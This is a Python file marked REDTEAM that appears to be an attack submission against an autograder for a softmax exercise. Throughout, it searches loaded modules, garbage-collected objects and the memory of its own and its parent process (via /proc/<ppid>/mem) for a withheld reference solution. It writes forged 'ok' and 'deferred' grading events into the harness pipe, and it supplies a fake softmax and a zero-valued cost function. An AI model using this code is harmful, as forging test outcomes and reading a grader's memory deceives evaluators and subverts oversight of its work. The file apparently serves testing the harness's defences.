"""REDTEAM inflate_deferred_standin: get the withheld softmax stand-in into the process that grades softmax.

Attack: ask for q1_softmax and utils.utils at load time, so that the cost calls are
"deferred" to a second process that has the stand-ins; in every process look for the
stand-in (import it, sys.modules, gc, the harness's request, this process's own memory
through ctypes, the leader's memory through /proc/<ppid>/mem) and answer softmax with it;
where it is found, forge "ok" softmax outcomes computed with it, and forge "deferred" for
the softmax calls hoping they are sent again to the process that has it.
Bound: the baseline: the process that answers softmax never holds the stand-in, the
second process answers only the calls it was sent, and a forged "deferred" for a call
withheld as much as its process only loses that call.
"""
import ctypes
import gc
import json
import os
import re
import stat
import struct
import sys

import numpy as np

MARK = b"Stand-in for the starter's q1_softmax"
SOFTMAX_IDS = ["softmax:" + c for c in ("vector", "matrix", "one-row", "shifted", "large-positive", "large-negative",
                                        "large-vector", "mixed-offsets", "wide", "hidden-matrix", "hidden-mixed")]


def _event_fd():
    out = os.fstat(1).st_ino
    for fd in range(3, 256):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISFIFO(st.st_mode) and st.st_ino != out:
            return fd


def _send(obj):
    fd = _event_fd()
    if fd is not None:
        head = json.dumps(dict(obj, **{"$blobs": []})).encode()
        os.write(fd, struct.pack(">IQ", len(head), 0) + head)


def _from_text(text):
    ns = {}
    try:
        exec(text, ns)
    except BaseException:
        return None
    return ns.get("softmax")


def _dig():
    for name in ("q1_softmax", "utils.utils"):
        try:
            __import__(name)
            m = sys.modules[name]
            if getattr(m, "softmax", None) is not None and m.softmax is not globals().get("softmax"):
                return m.softmax
        except BaseException:
            pass
    for obj in gc.get_objects():
        if isinstance(obj, dict) and isinstance(obj.get("data"), (bytes, str)) and "provides" in obj:
            data = obj["data"]
            data = data if isinstance(data, bytes) else data.encode()
            if MARK in data:
                return _from_text(data.decode())
    pat = re.compile(re.escape(MARK) + rb'[ -~\n]{50,2000}?return e / np\.sum\(e, axis=-1, keepdims=True\)\n')
    for pid in ("self", str(os.getppid())):
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        for line in maps:
            addr, perms = line.split()[:2]
            lo, hi = (int(a, 16) for a in addr.split("-"))
            if not perms.startswith("rw") or hi - lo > 1 << 28:
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            if not data:
                continue
            m = pat.search(data)
            if m and b"REDTEAM" not in m.group(0):
                return _from_text(b'"""' + m.group(0).decode("ascii", "replace"))
    return None


STANDIN = _dig()
if STANDIN is not None:
    print("REDTEAM found the stand-in in this process")
    for cid in SOFTMAX_IDS:
        _send({"ev": "outcome", "call": cid, "status": "ok",
               "value": {"type": "ndarray", "data": None, "repr": "stand-in"}})
else:
    for cid in SOFTMAX_IDS[::2]:
        _send({"ev": "outcome", "call": cid, "status": "deferred"})


def softmax(x):
    if STANDIN is not None:
        return STANDIN(x)
    x = np.asarray(x, dtype=float)
    return np.ones_like(x) / x.shape[-1]


def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
    return 0.0, np.zeros_like(predicted), np.zeros_like(outputVectors)
